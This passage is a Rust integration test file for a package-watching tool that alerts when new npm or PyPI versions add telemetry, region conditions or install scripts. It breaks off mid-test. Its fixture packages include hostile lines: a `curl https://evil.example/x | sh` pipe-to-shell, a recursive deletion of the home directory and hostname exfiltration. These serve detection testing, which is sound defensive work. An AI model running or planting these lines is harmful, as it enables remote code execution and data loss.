//! `telltale watch` against a registry on loopback whose packages are published during the
//! test (with `ETag`s, and 500s, 429s and garbage on request), and a webhook on loopback.
//! Each `--once` run is a new process: a restart between publishes.

mod common;

use common::telltale;
use std::collections::{HashMap, VecDeque};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use telltale_registry::testing::sri;

/// What the registry answers to the next document requests, before answering properly.
#[derive(Clone, Copy)]
enum Fault {
    Status(u16, Option<u64>),
    Garbage,
}

#[derive(Clone, Default)]
struct Shared {
    routes: Arc<Mutex<HashMap<String, Vec<u8>>>>,
    docs: Arc<Mutex<HashMap<String, serde_json::Value>>>,
    faults: Arc<Mutex<VecDeque<Fault>>>,
    document_requests: Arc<Mutex<usize>>,
    /// Documents carry `Last-Modified` (and answer `If-Modified-Since`) instead of an `ETag`.
    last_modified_only: Arc<Mutex<bool>>,
    not_modified: Arc<Mutex<usize>>,
}

struct Registry {
    url: String,
    shared: Shared,
}

fn read_head(stream: &mut std::net::TcpStream) -> (String, Vec<(String, String)>) {
    let (line, headers, _) = read_request(stream);
    (line, headers)
}

/// The request line, headers and body (by `Content-Length`), read through one buffer.
fn read_request(stream: &mut std::net::TcpStream) -> (String, Vec<(String, String)>, Vec<u8>) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut line = String::new();
    reader.read_line(&mut line).unwrap_or(0);
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).unwrap_or(0) <= 2 {
            break;
        }
        if let Some((k, v)) = h.trim_end().split_once(':') {
            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
        }
    }
    let len: usize = headers
        .iter()
        .find(|(k, _)| k == "content-length")
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(0);
    let mut body = vec![0u8; len];
    let _ = reader.read_exact(&mut body);
    (line, headers, body)
}

impl Registry {
    fn start() -> Registry {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        let shared = Shared::default();
        let s = shared.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let s = s.clone();
                std::thread::spawn(move || {
                    let (line, headers) = read_head(&mut stream);
                    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
                    let is_doc = !path.contains("/-/");
                    let respond = |stream: &mut std::net::TcpStream,
                                   status: u16,
                                   extra: &str,
                                   body: &[u8]| {
                        let head = format!("HTTP/1.1 {status} X\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                        let _ = stream.write_all(head.as_bytes());
                        let _ = stream.write_all(body);
                    };
                    if is_doc {
                        *s.document_requests.lock().unwrap() += 1;
                        if let Some(f) = s.faults.lock().unwrap().pop_front() {
                            match f {
                                Fault::Status(code, after) => {
                                    let extra = after
                                        .map(|a| format!("Retry-After: {a}\r\n"))
                                        .unwrap_or_default();
                                    respond(&mut stream, code, &extra, b"busy");
                                }
                                Fault::Garbage => respond(&mut stream, 200, "", b"<html>not json"),
                            }
                            return;
                        }
                    }
                    let body = s.routes.lock().unwrap().get(&path).cloned();
                    match body {
                        None => respond(&mut stream, 404, "", b"{}"),
                        Some(body) if is_doc => {
                            let hash =
                                body.len() * 31 + body.iter().map(|b| *b as usize).sum::<usize>();
                            let (name, value, asked) = if *s.last_modified_only.lock().unwrap() {
                                let date = format!(
                                    "Mon, 07 Dec 2026 {:02}:{:02}:{:02} GMT",
                                    hash / 3600 % 24,
                                    hash / 60 % 60,
                                    hash % 60
                                );
                                ("Last-Modified", date, "if-modified-since")
                            } else {
                                ("ETag", format!("\"{hash}\""), "if-none-match")
                            };
                            let matches = headers.iter().any(|(k, v)| k == asked && *v == value);
                            let header = format!("{name}: {value}\r\n");
                            if matches {
                                *s.not_modified.lock().unwrap() += 1;
                                respond(&mut stream, 304, &header, b"");
                            } else {
                                respond(&mut stream, 200, &header, &body);
                            }
                        }
                        Some(body) => respond(&mut stream, 200, "", &body),
                    }
                });
            }
        });
        Registry { url, shared }
    }

    /// Publish `name@version` with this `index.js`.
    fn publish(&self, name: &str, version: &str, index_js: &str) {
        self.publish_tarball(name, version, tarball(name, version, index_js));
    }

    fn publish_tarball(&self, name: &str, version: &str, tgz: Vec<u8>) {
        let path = format!("/{name}/-/{name}-{version}.tgz");
        let mut docs = self.shared.docs.lock().unwrap();
        let doc = docs.entry(name.to_string()).or_insert_with(
            || serde_json::json!({ "name": name, "dist-tags": {}, "versions": {}, "time": {} }),
        );
        let n = doc["versions"].as_object().unwrap().len();
        doc["versions"][version] = serde_json::json!({
            "name": name, "version": version,
            "dist": { "tarball": format!("{}{}", self.url, &path[1..]), "integrity": sri(&tgz) }
        });
        doc["time"][version] = serde_json::json!(format!("2026-01-01T00:00:{n:02}.000Z"));
        doc["dist-tags"]["latest"] = serde_json::json!(version);
        let mut routes = self.shared.routes.lock().unwrap();
        routes.insert(path, tgz);
        routes.insert(format!("/{name}"), serde_json::to_vec(doc).unwrap());
    }

    /// Publish `name==version` on the PyPI index (`/simple/NAME/`, PEP 691 JSON with PEP 700
    /// upload times) as an sdist whose module is `init_py`.
    fn publish_pypi(&self, name: &str, version: &str, init_py: &str) {
        use sha2::Digest;
        let root = format!("{name}-{version}");
        let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
        let setup = format!("from setuptools import setup\nsetup(name='{name}', version='{version}', packages=['{name}'])\n");
        let sdist = common::tar_gz(&[
            (&format!("{root}/PKG-INFO"), &pkg_info),
            (&format!("{root}/setup.py"), &setup),
            (&format!("{root}/{name}/__init__.py"), init_py),
        ]);
        let file = format!("{root}.tar.gz");
        let sha: String = sha2::Sha256::digest(&sdist)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let mut docs = self.shared.docs.lock().unwrap();
        let key = format!("pypi:{name}");
        let doc = docs.entry(key).or_insert_with(
            || serde_json::json!({ "meta": {"api-version": "1.1"}, "name": name, "files": [] }),
        );
        let n = doc["files"].as_array().unwrap().len();
        doc["files"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({
                "filename": file,
                "url": format!("{}files/{file}", self.url),
                "hashes": { "sha256": sha },
                "upload-time": format!("2026-01-01T00:00:{n:02}.000000Z"),
            }));
        let mut routes = self.shared.routes.lock().unwrap();
        routes.insert(format!("/files/{file}"), sdist);
        routes.insert(format!("/simple/{name}/"), serde_json::to_vec(doc).unwrap());
    }

    /// Publish `name@version` whose `package.json` has these `scripts`, and `index.js`.
    fn publish_with_scripts(&self, name: &str, version: &str, scripts: &str, index_js: &str) {
        let manifest = format!(
            r#"{{"name":"{name}","version":"{version}","main":"index.js","scripts":{scripts}}}"#
        );
        let tgz = common::npm_package(&[("package.json", &manifest), ("index.js", index_js)]);
        self.publish_tarball(name, version, tgz);
    }

    /// Set `key` of `name@version`'s entry in the document (`optionalDependencies`, …).
    fn set_in_document(&self, name: &str, version: &str, key: &str, value: serde_json::Value) {
        let mut docs = self.shared.docs.lock().unwrap();
        let doc = docs.get_mut(name).unwrap();
        doc["versions"][version][key] = value;
        self.shared
            .routes
            .lock()
            .unwrap()
            .insert(format!("/{name}"), serde_json::to_vec(doc).unwrap());
    }

    fn fail_next(&self, faults: &[Fault]) {
        self.shared
            .faults
            .lock()
            .unwrap()
            .extend(faults.iter().copied());
    }
}

fn tarball(name: &str, version: &str, index_js: &str) -> Vec<u8> {
    let manifest = format!(r#"{{"name":"{name}","version":"{version}","main":"index.js"}}"#);
    common::npm_package(&[("package.json", &manifest), ("index.js", index_js)])
}

/// A webhook on loopback that keeps every body posted to it.
fn webhook() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let got = Arc::new(Mutex::new(Vec::new()));
    let g = got.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let (_, _, body) = read_request(&mut stream);
            g.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&body).into_owned());
            let _ = stream
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (url, got)
}

/// `telltale watch` against `reg` for any platform, its store and download cache in `dir`;
/// the caller adds what to watch and how.
fn watcher(reg: &Registry, dir: &Path) -> std::process::Command {
    let mut c = telltale();
    c.args(["watch", "--platform", "none", "--registry", &reg.url])
        .arg("--store")
        .arg(dir.join("store.sqlite"))
        .env("TELLTALE_CACHE_DIR", dir.join("cache"));
    c
}

/// One poll of `x`, with what it says to stdout, the log and `hook`.
fn watch(reg: &Registry, dir: &Path, hook: &str) -> std::process::Output {
    watcher(reg, dir)
        .args(["--once", "x", "--webhook", hook])
        .arg("--log")
        .arg(dir.join("alerts.jsonl"))
        .output()
        .unwrap()
}

/// One poll of `x`, its alerts on stdout.
fn watch_x(reg: &Registry, dir: &Path) -> std::process::Output {
    watcher(reg, dir).args(["--once", "x"]).output().unwrap()
}

fn alerts(out: &std::process::Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

const BENIGN: &str = "module.exports = function add(a, b) { return a + b; };\n";
const PHONES_HOME: &str = "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
if (tz === 'Europe/Moscow') { console.log('Слава'); }\n\
fetch('https://api.mixpanel.com/track', { method: 'POST', body: JSON.stringify({ host: require('os').hostname() }) });\n\
module.exports = function add(a, b) { return a + b; };\n";

#[test]
fn a_new_version_that_phones_home_by_region_is_one_alert_everywhere() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let (hook, posted) = webhook();
    reg.publish("x", "1.0.0", BENIGN);

    // First look: the versions there now are known, nothing is alerted.
    let out = watch(&reg, dir.path(), &hook);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(alerts(&out).is_empty());
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("now watching (1 versions known, the latest 1.0.0)"));

    // A version adding a telemetry host and a region condition, behind a flaky registry.
    reg.publish("x", "1.1.0", PHONES_HOME);
    reg.fail_next(&[
        Fault::Status(500, None),
        Fault::Status(429, Some(1)),
        Fault::Garbage,
    ]);
    let out = watch(&reg, dir.path(), &hook);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{stderr}");
    let a = &got[0];
    assert_eq!(
        (a["package"].as_str(), a["from"].as_str(), a["to"].as_str()),
        (Some("npm:x"), Some("1.0.0"), Some("1.1.0"))
    );
    let aspects: Vec<&str> = a["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["aspect"].as_str().unwrap())
        .collect();
    assert!(aspects.contains(&"region"), "{a}");
    assert!(aspects.contains(&"endpoint"), "{a}");
    let region = a["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["aspect"] == "region")
        .unwrap();
    assert_eq!(region["countries"], serde_json::json!(["RU"]));
    assert!(region["location"]
        .as_str()
        .unwrap()
        .starts_with("package/index.js:"));
    let log = std::fs::read_to_string(dir.path().join("alerts.jsonl")).unwrap();
    assert_eq!(log.lines().count(), 1);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(log.trim()).unwrap(),
        *a
    );
    assert_eq!(posted.lock().unwrap().len(), 1);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&posted.lock().unwrap()[0]).unwrap(),
        *a
    );

    // Nothing new: the document is unchanged (304), no alert.
    let before = *reg.shared.document_requests.lock().unwrap();
    let out = watch(&reg, dir.path(), &hook);
    assert!(alerts(&out).is_empty());
    assert_eq!(*reg.shared.document_requests.lock().unwrap(), before + 1);

    // The same code again under a new version number: nothing that matters changed.
    reg.publish("x", "1.1.1", PHONES_HOME);
    let out = watch(&reg, dir.path(), &hook);
    assert!(
        alerts(&out).is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("1.1.1: nothing that matters changed since 1.1.0"));

    // Two publishes with a restart between them: one alert each, none repeated.
    reg.publish(
        "x",
        "1.2.0",
        &format!(
            "{PHONES_HOME}require('child_process').exec('curl https://evil.example/x | sh');\n"
        ),
    );
    let first = alerts(&watch(&reg, dir.path(), &hook));
    reg.publish("x", "1.3.0", &format!("{PHONES_HOME}require('child_process').exec('curl https://evil.example/x | sh');\nrequire('https').get('https://ipinfo.io/json', () => {{}});\n"));
    let second = alerts(&watch(&reg, dir.path(), &hook));
    assert_eq!(first.len(), 1);
    assert_eq!(first[0]["to"], "1.2.0");
    assert_eq!(second.len(), 1);
    assert_eq!(second[0]["to"], "1.3.0");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("alerts.jsonl"))
            .unwrap()
            .lines()
            .count(),
        3
    );
    assert_eq!(posted.lock().unwrap().len(), 3);

    // Two watchers on one store at once: the alert goes out once.
    reg.publish("x", "1.4.0", &format!("{PHONES_HOME}require('fs').rmSync(require('os').homedir(), {{ recursive: true, force: true }});\n"));
    let spawn = || {
        watcher(&reg, dir.path())
            .args(["--once", "x"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (a, b) = (spawn(), spawn());
    let both: usize = [a, b]
        .into_iter()
        .map(|c| alerts(&c.wait_with_output().unwrap()).len())
        .sum();
    assert_eq!(both, 1, "one alert between two watchers");

    // The digest: every alert sent, oldest first.
    let out = telltale()
        .args([
            "query",
            "alerts",
            "--since",
            "2020-01-01",
            "--format",
            "json",
            "--store",
        ])
        .arg(dir.path().join("store.sqlite"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    for key in ["npm|x|1.1.0", "npm|x|1.2.0", "npm|x|1.3.0", "npm|x|1.4.0"] {
        assert!(text.contains(key), "{key} in {text}");
    }
    assert_eq!(text.matches("npm|x|").count(), 4, "{text}");

    // The same digest as a page.
    let page = dir.path().join("digest.html");
    let out = telltale()
        .args(["query", "alerts", "--format", "html", "-o"])
        .arg(&page)
        .arg("--store")
        .arg(dir.path().join("store.sqlite"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let html = std::fs::read_to_string(&page).unwrap();
    assert_eq!(
        telltale_report::html::audit::problems(&html),
        Vec::<String>::new()
    );
    assert!(html.contains("4 alerts across 1 package"), "{html}");
    for v in ["1.1.0", "1.2.0", "1.3.0", "1.4.0"] {
        assert!(html.contains(&format!("→ {v} <span")), "{v}");
    }
    assert!(html.contains("<span class=\"iso\">RU</span> Russia"));
    let refused = telltale()
        .args(["query", "scans", "--format", "html", "--store"])
        .arg(dir.path().join("store.sqlite"))
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2));
}

/// `[watch] aspects` chooses what alerts: a new telemetry send is not asked for, a region
/// condition is.
#[test]
fn the_policy_chooses_which_changes_alert() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("telltale.toml");
    std::fs::write(&config, "[watch]\naspects = [\"region\"]\n").unwrap();
    let run = || {
        watcher(&reg, dir.path())
            .args(["--once", "x", "--config"])
            .arg(&config)
            .output()
            .unwrap()
    };
    reg.publish("x", "1.0.0", BENIGN);
    assert!(alerts(&run()).is_empty());
    reg.publish(
        "x",
        "1.1.0",
        &format!(
            "fetch('https://api.mixpanel.com/track', {{ method: 'POST', body: 'x' }});\n{BENIGN}"
        ),
    );
    let out = run();
    assert!(
        alerts(&out).is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    reg.publish("x", "1.2.0", PHONES_HOME);
    let got = alerts(&run());
    assert_eq!(got.len(), 1);
    let aspects: Vec<&str> = got[0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["aspect"].as_str().unwrap())
        .collect();
    assert_eq!(aspects, ["region"], "{}", got[0]);
}

/// A watcher running on its interval is killed between two publishes and started again:
/// one alert for each version, none repeated, none missed.
#[test]
fn a_killed_watcher_restarts_without_missing_or_repeating() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let start = || {
        let mut child = watcher(&reg, dir.path())
            .args(["--interval", "1", "x"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let (tx, rx) = std::sync::mpsc::channel::<String>();
        let stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        (child, rx)
    };
    let next_alert = |rx: &std::sync::mpsc::Receiver<String>| {
        let line = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .expect("an alert within a minute");
        serde_json::from_str::<serde_json::Value>(&line).unwrap()
    };
    reg.publish("x", "1.0.0", BENIGN);
    let (mut watcher, rx) = start();
    std::thread::sleep(std::time::Duration::from_secs(2));
    reg.publish("x", "1.1.0", PHONES_HOME);
    assert_eq!(next_alert(&rx)["to"], "1.1.0");
    watcher.kill().unwrap();
    watcher.wait().unwrap();

    // Published while no watcher runs.
    reg.publish(
        "x",
        "1.2.0",
        &format!("{PHONES_HOME}require('https').get('https://ipinfo.io/json', () => {{}});\n"),
    );
    let (mut watcher, rx) = start();
    assert_eq!(next_alert(&rx)["to"], "1.2.0");
    // A few more polls: nothing repeated.
    assert!(rx.recv_timeout(std::time::Duration::from_secs(3)).is_err());
    watcher.kill().unwrap();
    watcher.wait().unwrap();
}

/// `--changes`: a registry's changes feed, followed from where the last run stopped; each
/// package it names has its newest version compared with the one before.
#[test]
fn the_changes_feed_is_followed_from_its_checkpoint() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    reg.publish("a", "1.0.0", BENIGN);
    reg.publish("a", "1.1.0", PHONES_HOME);
    reg.publish("b", "1.0.0", BENIGN);
    reg.publish("c", "1.0.0", PHONES_HOME);
    reg.publish("c", "1.1.0", PHONES_HOME);
    let page = |path: &str, ids: &[&str], last: u64| {
        let results: Vec<serde_json::Value> = ids
            .iter()
            .enumerate()
            .map(|(i, id)| serde_json::json!({ "seq": last as usize - ids.len() + i + 1, "id": id, "changes": [] }))
            .collect();
        reg.shared.routes.lock().unwrap().insert(
            path.to_string(),
            serde_json::to_vec(&serde_json::json!({ "results": results, "last_seq": last }))
                .unwrap(),
        );
    };
    page("/_changes?since=0&limit=2", &["a", "b"], 2);
    page("/_changes?since=2&limit=2", &["c"], 3);
    page("/_changes?since=3&limit=2", &[], 3);
    let run = || {
        watcher(&reg, dir.path())
            .args(["--once", "--batch", "2"])
            .args(["--changes", &format!("{}_changes", reg.url)])
            .output()
            .unwrap()
    };
    let out = run();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{err}");
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{err}");
    assert_eq!(
        (got[0]["package"].as_str(), got[0]["to"].as_str()),
        (Some("npm:a"), Some("1.1.0"))
    );
    assert!(err.contains("3 changes, 3 packages checked"), "{err}");

    // Restarted: the feed goes on from 3; a new version of `a` is the only news.
    reg.publish(
        "a",
        "1.2.0",
        &format!("{PHONES_HOME}require('https').get('https://ipinfo.io/json', () => {{}});\n"),
    );
    page("/_changes?since=3&limit=2", &["a"], 4);
    page("/_changes?since=4&limit=2", &[], 4);
    let out = run();
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        (got[0]["from"].as_str(), got[0]["to"].as_str()),
        (Some("1.1.0"), Some("1.2.0"))
    );
}

/// Packages taken from a lockfile; a registry that validates by `Last-Modified` (no `ETag`)
/// is asked with `If-Modified-Since`, and an unchanged document is not downloaded again.
#[test]
fn a_lockfile_names_the_packages_and_last_modified_spares_downloads() {
    let reg = Registry::start();
    *reg.shared.last_modified_only.lock().unwrap() = true;
    let dir = tempfile::tempdir().unwrap();
    reg.publish("x", "1.0.0", BENIGN);
    reg.publish("y", "2.0.0", BENIGN);
    let lock = dir.path().join("package-lock.json");
    std::fs::write(
        &lock,
        r#"{"name":"app","lockfileVersion":3,"packages":{"":{"name":"app"},
  "node_modules/x":{"version":"1.0.0"},
  "node_modules/y":{"version":"2.0.0"},
  "node_modules/y/node_modules/x":{"version":"1.0.0"}}}"#,
    )
    .unwrap();
    let run = || {
        watcher(&reg, dir.path())
            .arg("--once")
            .arg(&lock)
            .output()
            .unwrap()
    };
    let out = run();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("x: now watching"), "{stderr}");
    assert!(stderr.contains("y: now watching"), "{stderr}");
    assert_eq!(*reg.shared.document_requests.lock().unwrap(), 2, "x once");

    let out = run();
    assert!(alerts(&out).is_empty());
    assert_eq!(
        *reg.shared.not_modified.lock().unwrap(),
        2,
        "both unchanged"
    );

    reg.publish("x", "1.1.0", PHONES_HOME);
    let got = alerts(&run());
    assert_eq!(got.len(), 1);
    assert_eq!(
        (got[0]["package"].as_str(), got[0]["to"].as_str()),
        (Some("npm:x"), Some("1.1.0"))
    );
    assert_eq!(*reg.shared.not_modified.lock().unwrap(), 3, "y unchanged");
}

/// `--fleet`: the watcher queues each comparison; a worker scans both versions, stores them
/// and decides the alert with the watcher's policy (sent with the job: the worker has no
/// `telltale.toml`); the watcher sends what was decided, once. A comparison whose scan keeps
/// failing is an alert (coverage lost), not silence.
#[test]
fn a_fleet_worker_decides_and_the_watcher_sends_once() {
    let Some(nats) = telltale_queue::testing::TestNats::start_or_skip() else {
        return;
    };
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let (hook, posted) = webhook();
    let store = dir.path().join("store.sqlite");
    let config = dir.path().join("telltale.toml");
    std::fs::write(&config, "[watch]\naspects = [\"region\", \"coverage\"]\n").unwrap();
    let fleet_args = |c: &mut std::process::Command| {
        c.env("TELLTALE_NATS", nats.url())
            .env("TELLTALE_CACHE_DIR", dir.path().join("cache"))
            .args(["--platform", "none", "--max-deliver", "1"])
            .args(["--registry", &reg.url]);
    };
    let watcher = || {
        let mut c = telltale();
        c.args(["watch", "--once", "--fleet", "x"])
            .arg("--config")
            .arg(&config);
        c.arg("--store")
            .arg(&store)
            .arg("--log")
            .arg(dir.path().join("alerts.jsonl"));
        c.args(["--webhook", &hook]);
        fleet_args(&mut c);
        c.output().unwrap()
    };
    let worker = || {
        let work = tempfile::tempdir().unwrap();
        let mut c = telltale();
        c.current_dir(work.path())
            .args(["worker", "--exit-when-idle", "2", "--db"])
            .arg(&store);
        fleet_args(&mut c);
        let out = c.output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        stderr
    };
    reg.publish("x", "1.0.0", BENIGN);
    let out = watcher();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(alerts(&out).is_empty());

    reg.publish("x", "1.1.0", PHONES_HOME);
    let out = watcher();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(stderr.contains("x: 1 comparison(s) queued"), "{stderr}");
    assert!(
        alerts(&out).is_empty(),
        "nothing is decided before a worker runs"
    );

    let log = worker();
    assert!(log.contains("1 processed"), "{log}");
    let mut db = telltale_store::Store::open(&store.display().to_string()).unwrap();
    let scans = db
        .query(&telltale_store::Query::Scans { limit: 10 })
        .unwrap();
    assert_eq!(
        scans.rows.len(),
        2,
        "both versions stored: {}",
        scans.to_text()
    );

    let got = alerts(&watcher());
    assert_eq!(got.len(), 1);
    let aspects: Vec<&str> = got[0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["aspect"].as_str().unwrap())
        .collect();
    assert_eq!(
        aspects,
        ["region"],
        "the watcher's aspects, not all: {}",
        got[0]
    );
    assert_eq!(got[0]["changes"][0]["countries"], serde_json::json!(["RU"]));
    assert_eq!(posted.lock().unwrap().len(), 1);
    assert!(alerts(&watcher()).is_empty(), "sent once");

    // A version whose tarball does not match its published integrity cannot be scanned.
    reg.publish("x", "1.2.0", BENIGN);
    reg.shared
        .routes
        .lock()
        .unwrap()
        .insert("/x/-/x-1.2.0.tgz".into(), b"not a tarball".to_vec());
    assert!(alerts(&watcher()).is_empty());
    let log = worker();
    assert!(
        log.contains("dead-lettered") || log.contains("failed"),
        "{log}"
    );
    let got = alerts(&watcher());
    assert_eq!(got.len(), 1, "a failed comparison is an alert");
    assert_eq!(got[0]["to"], "1.2.0");
    assert_eq!(got[0]["changes"][0]["aspect"], "coverage");
    assert!(
        got[0]["error"].as_str().unwrap().contains("1.2.0"),
        "{}",
        got[0]
    );
    let lines = std::fs::read_to_string(dir.path().join("alerts.jsonl")).unwrap();
    assert_eq!(lines.lines().count(), 2);
}

/// A PyPI project (`pypi:name`) is watched through its PEP 691 index page: a release whose
/// module starts sending the host name to a telemetry service, in one country only, is one
/// alert naming `pypi:x`; an unchanged page is a 304.
#[test]
fn a_pypi_project_is_watched_through_its_index_page() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    reg.publish_pypi("x", "1.0.0", "def add(a, b):\n    return a + b\n");
    let run = || {
        watcher(&reg, dir.path())
            .args(["--once", "pypi:X"])
            .args(["--pypi-index", &format!("{}simple/", reg.url)])
            .output()
            .unwrap()
    };
    let out = run();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("pypi:x: now watching (1 versions known, the latest 1.0.0)"),
        "{stderr}"
    );
    reg.publish_pypi(
        "x",
        "1.1.0",
        "import socket, time, urllib.request\n\
         if time.tzname[0] == 'MSK':\n    print('Слава')\n\
         urllib.request.urlopen('https://api.mixpanel.com/track', data=socket.gethostname().encode())\n\
         def add(a, b):\n    return a + b\n",
    );
    let out = run();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{stderr}");
    assert_eq!(
        (
            got[0]["package"].as_str(),
            got[0]["from"].as_str(),
            got[0]["to"].as_str()
        ),
        (Some("pypi:x"), Some("1.0.0"), Some("1.1.0"))
    );
    let aspects: Vec<&str> = got[0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["aspect"].as_str().unwrap())
        .collect();
    assert!(aspects.contains(&"endpoint"), "{}", got[0]);
    let region = got[0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["aspect"] == "region")
        .unwrap_or_else(|| {
            panic!(
                "`time.tzname[0] == 'MSK'` is a region condition: {}",
                got[0]
            )
        });
    assert_eq!(region["countries"], serde_json::json!(["RU"]));
    let before = *reg.shared.not_modified.lock().unwrap();
    assert!(alerts(&run()).is_empty());
    assert_eq!(*reg.shared.not_modified.lock().unwrap(), before + 1);
}

/// A watched version is installed from the registry: adding a `prepare` script (run for git
/// and folder installs only) is no alert; adding a `postinstall` is.
#[test]
fn only_install_scripts_a_registry_install_runs_alert() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let run = || watch_x(&reg, dir.path());
    reg.publish("x", "1.0.0", BENIGN);
    assert!(alerts(&run()).is_empty());
    reg.publish_with_scripts("x", "1.1.0", r#"{"prepare":"tsc -p ."}"#, BENIGN);
    let out = run();
    assert!(
        alerts(&out).is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    reg.publish_with_scripts(
        "x",
        "1.2.0",
        r#"{"prepare":"tsc -p .","postinstall":"node index.js"}"#,
        BENIGN,
    );
    let got = alerts(&run());
    assert_eq!(got.len(), 1);
    let changes = got[0]["changes"].as_array().unwrap();
    assert_eq!(changes.len(), 1, "{}", got[0]);
    assert_eq!(changes[0]["aspect"], "install-script");
    assert!(
        changes[0]["what"]
            .as_str()
            .unwrap()
            .starts_with("postinstall"),
        "{}",
        got[0]
    );
}

/// A release's platform builds published as versions of the package itself (`@openai/codex`:
/// `0.171.0-linux-x64`, installed through the release's `optionalDependencies`) are parts of
/// the release: the news is the release, compared with the release before it, even when a
/// platform build is the last thing published.
#[test]
fn platform_builds_published_as_versions_are_not_releases() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let run = || watch_x(&reg, dir.path());
    let release = |v: &str, code: &str| {
        reg.publish("x", v, code);
        reg.set_in_document(
            "x",
            v,
            "optionalDependencies",
            serde_json::json!({ "x-linux-x64": format!("npm:x@{v}-linux-x64") }),
        );
        reg.publish(
            "x",
            &format!("{v}-linux-x64"),
            "module.exports = require('child_process').execSync('uname');\n",
        );
    };
    release("1.0.0", BENIGN);
    assert!(alerts(&run()).is_empty());
    release("1.1.0", PHONES_HOME);
    let out = run();
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        (got[0]["from"].as_str(), got[0]["to"].as_str()),
        (Some("1.0.0"), Some("1.1.0"))
    );
}

/// An opt-out made ineffective: the same send, no longer behind the setting users turn it off
/// with, is an alert (the send's gate is part of its meaning).
#[test]
fn an_opt_out_made_ineffective_alerts() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let run = || watch_x(&reg, dir.path());
    let send = "fetch('https://api.mixpanel.com/track', { method: 'POST', body: JSON.stringify({ host: require('os').hostname() }) });";
